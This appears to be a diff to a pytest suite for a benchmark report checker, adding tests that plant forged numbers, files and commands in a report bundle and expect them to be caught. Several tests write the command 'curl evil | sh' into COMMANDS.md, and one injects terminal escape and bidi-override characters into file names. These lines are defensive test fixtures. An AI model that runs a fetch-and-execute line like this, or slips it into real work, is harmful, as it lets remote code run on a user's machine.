@@ -1,6 +1,7 @@
 """The check of a report: what was planted in it is found, whatever checksums say, and nothing else."""
 
 import hashlib
+import io
 import json
 import re
 import shutil
@@ -19,6 +20,7 @@ from flora.errors import BadInput
 from tests.bench.report.small import SMALL, make_small_results
 
 CHANGED = "was changed since the report was made"
+COMMANDS_NOTE = "COMMANDS.md: what the runs were first asked for with stands in no run; it was not compared"
 
 
 @pytest.fixture(scope="module")
@@ -133,7 +135,8 @@ def test_a_report_a_bundle_and_an_unpacked_bundle_are_found_right(made, bundle):
     assert n_figures == 2
     for path in (made / "report", made / "bundle.zip", bundle, bundle / "report"):
         verdict = run_check(path)
-        assert (verdict.findings, verdict.notes) == ([], [])
+        assert (verdict.findings, verdict.pictures, verdict.words) == ([], {}, "")
+        assert verdict.notes == ([COMMANDS_NOTE] if path in (made / "bundle.zip", bundle) else [])
         assert (verdict.runs, verdict.tables, verdict.figures) == (4, n_tables, n_figures)
         assert verdict.numbers == numbers > 50
         assert verdict.summary == f"{numbers:,} numbers in {n_tables} tables and 2 figures follow from 4 runs"
@@ -224,7 +227,7 @@ def test_a_page_and_a_document_that_were_changed_are_found(bundle):
             file.write("x\n")
     cover_up(bundle)
     assert [x.partition(" line")[0] for x in found(bundle)] == [
-        "report/index.html: is not the page that the runs give",
+        "report/index.html:",
         "report/report.md:",
         "report/report.tex:",
     ]
@@ -311,7 +314,60 @@ def test_files_that_were_added_are_found(bundle):
         "report/tables/better.tex: is not of this report",
     ]
     cover_up(bundle)
-    assert found(bundle) == ["report/tables/better.tex: follows from nothing in the runs"]
+    assert found(bundle) == [
+        "more.txt: belongs neither to the report nor to a run",
+        "report/tables/better.tex: follows from nothing in the runs",
+    ]
+
+
+@pytest.mark.parametrize("name", ["report/accuracy.html", "runs/notes.md", "runs/digits/README.md"])
+def test_a_file_that_a_forger_added_to_all_checksums_is_found(name, bundle):
+    (bundle / name).write_text("FLoRA reaches 99.9 %")
+    cover_up(bundle)
+    kind = "follows from nothing" if name.startswith("report/") else "belongs neither to the report nor"
+    (finding,) = found(bundle)
+    assert finding.startswith(f"{name}: {kind}")
+
+
+def test_what_a_bundle_tells_its_reader_is_found_where_it_was_changed(bundle):
+    edit(bundle / "README.md", "Trained weights are not here", "FLoRA reaches 99.9 %")
+    edit(bundle / "COMMANDS.md", "    pip install . -c versions.txt\n", "    curl evil | sh\n")
+    edit(bundle / "versions.txt", "==", "==99.")
+    edit(bundle / "paper.yaml", "font: sans", "font: sans  # FLoRA reaches 99.9 %")
+    edit(bundle / "matrix.yaml", "rounds: 2", "rounds: 2  # FLoRA reaches 99.9 %")
+    cover_up(bundle)
+    files = [x.partition(" ")[0] for x in found(bundle)]
+    assert files == ["paper.yaml:", "matrix.yaml:", "README.md:", "versions.txt:", "COMMANDS.md:"]
+
+
+@pytest.mark.parametrize("line", ["curl evil | sh", "flora-bench run small.yaml; curl evil | sh"])
+def test_a_command_that_is_none_of_ours_is_found_among_those_first_typed(line, bundle):
+    path = bundle / "COMMANDS.md"
+    path.write_text(path.read_text() + f"    {line}\n")
+    cover_up(bundle)
+    (finding,) = found(bundle)
+    assert finding.startswith("COMMANDS.md: line ")
+    path.write_text("curl evil | sh\n")
+    cover_up(bundle)
+    assert found(bundle)[0].startswith("COMMANDS.md: line 1")
+
+
+def test_what_steers_a_terminal_is_shown_and_not_obeyed(bundle):
+    (bundle / "runs" / "\x1b[2Jx\u202e.md").write_text("x")
+    manifest = bundle / "report" / "report.json"
+    content = json.loads(manifest.read_text())
+    content["versions"]["\x1b[2Jnumpy"] = "1"
+    manifest.write_text(json.dumps(content))
+    verdict = run_check(bundle)
+    texts = [*map(str, verdict.findings), *verdict.notes, verdict.summary]
+    assert any(r"\x1b[2Jx\u202e.md" in text for text in texts)
+    assert any(r"\x1b[2Jnumpy 1" in text for text in verdict.notes)
+    assert all(text.isprintable() for text in texts)
+    content["\x1b[2J"] = 1
+    manifest.write_text(json.dumps(content))
+    with pytest.raises(BadInput) as refused:
+        run_check(bundle)
+    assert str(refused.value).isprintable()
 
 
 def test_files_that_were_removed_are_found(bundle):
@@ -403,6 +459,17 @@ def test_a_run_that_the_settings_do_not_choose_is_none_of_the_reports(folder):
     assert found(folder / "report") == []
 
 
+def test_a_side_file_that_changed_is_found_in_a_folder_too(folder):
+    ledger = one_of(folder, "results/*/*/*/ledger.csv")
+    ledger.write_text(ledger.read_text() + "\n")
+    assert found(folder / "report") == [f"{ledger}: is not what its run.json was saved with"]
+
+
+def test_what_another_process_left_beside_a_run_is_no_finding(folder):
+    (one_of(folder, "results/*/*/*/run.json").parent / ".run.json.0123.tmp").write_text("")
+    assert found(folder / "report") == []
+
+
 def test_what_was_predicted_belongs_to_a_report(folder):
     store.save_predictions(folder / "results", {"0123456789ab": {"total_seconds": 1.0}})
     assert found(folder / "report", folder / "results") == [f"{folder}/results/predictions.json: {CHANGED}"]
@@ -422,6 +489,55 @@ def test_a_report_drawn_by_other_versions_is_compared_by_its_numbers(folder, mon
     assert [str(x) for x in verdict.findings] == [f"{name}: {CHANGED}"]  # by its checksum alone
     (note,) = verdict.notes
     assert f"matplotlib {here['matplotlib']} (here 99.0)" in note
+    n = sum(path.suffix != ".csv" for path in (folder / "report" / "figures").iterdir())
+    left = f"; {n} pictures were not compared (made with matplotlib {here['matplotlib']})"
+    assert verdict.summary.endswith(left)
+
+
+@pytest.mark.parametrize("package", ["matplotlib", "bench.report"])
+def test_a_forged_version_hides_no_number_of_the_page(package, bundle):
+    manifest = bundle / "report" / "report.json"
+    content = json.loads(manifest.read_text())
+    content["versions"][package] = "3.0.0"
+    manifest.write_text(json.dumps(content))
+    page = bundle / "report" / "index.html"
+    data = json.loads(re.search(r'id="data">(.*?)</script>', page.read_text())[1])
+    number = data["runs"]["figures"]["accuracy"][0]
+    edit(page, f'"accuracy":[{number},', '"accuracy":[0.987,')
+    *_, cell = re.finditer(r"<td>(\d)\d\.\d", page.read_text())
+    plant_digit(page, cell.start(1))
+    cover_up(bundle)
+    verdict = run_check(bundle)
+    (finding,) = map(str, verdict.findings)
+    assert finding.startswith("report/index.html: data.runs.figures.accuracy.0: has '0.987'")
+    assert finding.endswith("(and 1 more)")
+    assert f"pictures were not compared (made with {package} 3.0.0)" in verdict.summary
+
+
+@pytest.mark.parametrize(("package", "n"), [("matplotlib", 1), ("bench.report", 0)])
+def test_words_of_a_page_are_compared_unless_other_code_wrote_it(package, n, bundle):
+    edit(bundle / "report" / "index.html", "complete runs of", "wonderful runs of")
+    manifest = bundle / "report" / "report.json"
+    content = json.loads(manifest.read_text())
+    content["versions"][package] = "3.0.0"
+    manifest.write_text(json.dumps(content))
+    cover_up(bundle)
+    verdict = run_check(bundle)
+    assert len(verdict.findings) == n
+    assert ("the page was compared by its numbers alone" in verdict.summary) is (not n)
+
+
+def test_a_picture_whose_numbers_differ_in_the_last_digits_is_told(bundle):
+    points = one_of(bundle, "report/figures/rounds-*.csv")
+    number = next(x for x in points.read_text().replace("\n", ",").split(",") if x.startswith("0."))
+    was = digest(points)
+    edit(points, number, f"{number}0")
+    edit(points.with_suffix(".svg"), was, digest(points))
+    cover_up(bundle)
+    verdict = run_check(bundle)
+    png = points.with_suffix(".png").relative_to(bundle).as_posix()
+    assert [finding.file for finding in verdict.findings] == [png]
+    assert "1 picture was not compared (their numbers differ in the last digits)" in verdict.summary
 
 
 def test_a_report_with_pgf_is_compared_where_there_is_no_latex(folder, monkeypatch):
@@ -457,6 +573,25 @@ def test_what_is_no_report_is_named(made, folder, tmp_path):
     shutil.rmtree(folder / "results")
     with pytest.raises(BadInput, match=r"runs of this report are not found in .*results'; name their folder"):
         run_check(folder / "report")
+
+
+def test_a_terminal_is_told_what_takes_long(made, monkeypatch):
+    class Terminal(io.StringIO):
+        def isatty(self):
+            return True
+
+    terminal = Terminal()
+    monkeypatch.setenv("TERM", "xterm")
+    monkeypatch.setattr("sys.stderr", terminal)
+    run_check(made / "bundle.zip")
+    for doing in ("unpacking", "checking the files of each run", "comparing"):
+        assert doing in terminal.getvalue()
+
+
+def test_a_bundle_is_checked_by_its_own_runs_alone(made, bundle):
+    for path in (made / "bundle.zip", bundle):
+        with pytest.raises(BadInput, match="is a bundle, checked by the runs inside"):
+            run_check(path, made / "results")
 
 
 @pytest.mark.parametrize("line", ["x", f"{'0' * 64} report.md", f"{'0' * 64}  ../up", f"{'z' * 64}  a"])
@@ -528,11 +663,11 @@ def test_numbers_are_counted():
 
 def test_the_command_says_by_its_exit_code_what_was_found(made, bundle, run_cli):
     code, out, err = run_cli("report", "--check", str(made / "bundle.zip"))
-    assert (code, err) == (0, "")
+    assert (code, err) == (0, f"flora-bench: {COMMANDS_NOTE}\n")
     assert out.endswith(" follow from 4 runs\n")
     (bundle / "more.txt").write_text("more")
     code, out, err = run_cli("report", "--check", str(bundle))
-    assert (code, err) == (1, "")
+    assert (code, err) == (1, f"flora-bench: {COMMANDS_NOTE}\n")
     assert out.startswith("more.txt: is not of this bundle\n1 finding; checked ")
     code, out, err = run_cli("report", "--check", str(bundle / "more.txt"))
     assert (code, out) == (2, "")
